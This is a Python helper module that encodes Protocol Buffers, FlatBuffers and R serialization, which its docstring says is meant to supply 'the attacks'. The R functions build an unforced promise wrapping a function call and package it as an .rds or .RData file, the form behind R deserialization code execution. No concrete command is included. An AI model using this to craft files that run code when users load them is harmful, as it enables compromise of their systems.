"""Protocol buffers, FlatBuffers and R's serialization, as much as the attacks need.

Source: protobuf.dev/programming-guides/encoding; flatbuffers.dev/internals; R Internals 1.8.
"""

from __future__ import annotations

import struct
from collections.abc import Sequence


def varint(value: int) -> bytes:
    """Return a base 128 number."""
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(out) + bytes([value])


def field(tag: int, value: int | str | bytes) -> bytes:
    """Return one field: a number, or anything that has a length."""
    if isinstance(value, int):
        return varint(tag << 3) + varint(value)
    body = value.encode() if isinstance(value, str) else value
    return varint(tag << 3 | 2) + varint(len(body)) + body


def message(*fields: tuple[int, int | str | bytes]) -> bytes:
    """Return a message of fields in the order given."""
    return b"".join(field(tag, value) for tag, value in fields)


class Flat:
    """A FlatBuffer, written from its end to its start."""

    def __init__(self) -> None:
        """Start with nothing."""
        self._back = bytearray()

    def _align(self, size: int, more: int = 0) -> None:
        self._back[:0] = bytes(-(len(self._back) + more) % size)

    def _put(self, body: bytes) -> int:
        self._back[:0] = body
        return len(self._back)

    def text(self, value: str) -> int:
        """Write a string; return where it is, counted from the end."""
        body = value.encode() + b"\0"
        self._align(4, len(body))
        self._put(body)
        return self._put(struct.pack("<I", len(body) - 1))

    def numbers(self, values: Sequence[int]) -> int:
        """Write a vector of 32-bit numbers; return where it is."""
        self._align(4)
        for value in reversed(values):
            self._put(struct.pack("<i", value))
        return self._put(struct.pack("<I", len(values)))

    def offsets(self, places: Sequence[int]) -> int:
        """Write a vector of references; return where it is."""
        self._align(4)
        for place in reversed(places):
            self._put(struct.pack("<I", len(self._back) + 4 - place))
        return self._put(struct.pack("<I", len(places)))

    def table(self, slots: Sequence[tuple[str, int] | None]) -> int:
        """Write a table: ``("ref", place)``, ``("int", value)`` or ``("byte", value)`` by slot."""
        self._align(4)
        start = len(self._back)
        positions = []
        for slot in reversed(slots):
            if slot is None:
                positions.append(0)
                continue
            kind, value = slot
            if kind == "ref":
                value = len(self._back) + 4 - value
            self._put(struct.pack("<i", value))
            positions.append(len(self._back))
        # The table starts with the distance to its own list of slots, which stands before it.
        self._put(bytes(4))
        table = len(self._back)
        offsets = [table - place if place else 0 for place in reversed(positions)]
        entries = struct.pack(f"<{len(offsets)}H", *offsets)
        listed = struct.pack("<HH", 4 + len(entries), table - start) + entries
        self._align(2, len(listed))
        self._put(listed)
        distance = struct.pack("<i", len(self._back) - table)
        self._back[len(self._back) - table : len(self._back) - table + 4] = distance
        return table

    def finish(self, root: int, kind: bytes) -> bytes:
        """Return the buffer with its root and its four-letter identifier."""
        self._align(4, 8)
        self._put(kind)
        place = len(self._back) + 4 - root
        return struct.pack("<I", place) + bytes(self._back)


_R_SYMBOL, _R_PAIRS, _R_PROMISE, _R_CALL = 1, 2, 5, 6
_R_TEXT, _R_STRINGS, _R_LIST = 9, 16, 19
_R_NULL, _R_UNBOUND = 254, 252


def r_word(value: int) -> bytes:
    """Return a number as R writes it."""
    return struct.pack(">I", value)


def r_text(value: str) -> bytes:
    """Return a character vector of one string."""
    body = value.encode()
    return r_word(_R_STRINGS) + r_word(1) + r_word(_R_TEXT | 1 << 18) + r_word(len(body)) + body


def r_symbol(name: str) -> bytes:
    """Return a symbol."""
    body = name.encode()
    return r_word(_R_SYMBOL) + r_word(_R_TEXT | 1 << 18) + r_word(len(body)) + body


def r_call(function: str, argument: str) -> bytes:
    """Return the language object of a call with one string."""
    pairs = r_word(_R_PAIRS) + r_text(argument) + r_word(_R_NULL)
    return r_word(_R_CALL) + r_symbol(function) + pairs


def r_promise(expression: bytes) -> bytes:
    """Return a promise that is not yet forced: no value, to be found by evaluating."""
    return r_word(_R_PROMISE) + r_word(_R_UNBOUND) + expression


def r_list(*items: bytes) -> bytes:
    """Return a generic vector."""
    return r_word(_R_LIST) + r_word(len(items)) + b"".join(items)


def r_file(value: bytes, *, data: bool = False) -> bytes:
    """Return an ``.rds`` file; with `data`, an ``.RData`` file that binds it to ``model``."""
    head = b"X\n" + r_word(2) + r_word(0x40302) + r_word(0x20300)
    if not data:
        return head + value
    pairs = r_word(_R_PAIRS | 1 << 10) + r_symbol("model") + value + r_word(_R_NULL)
    return b"RDX2\n" + head + pairs
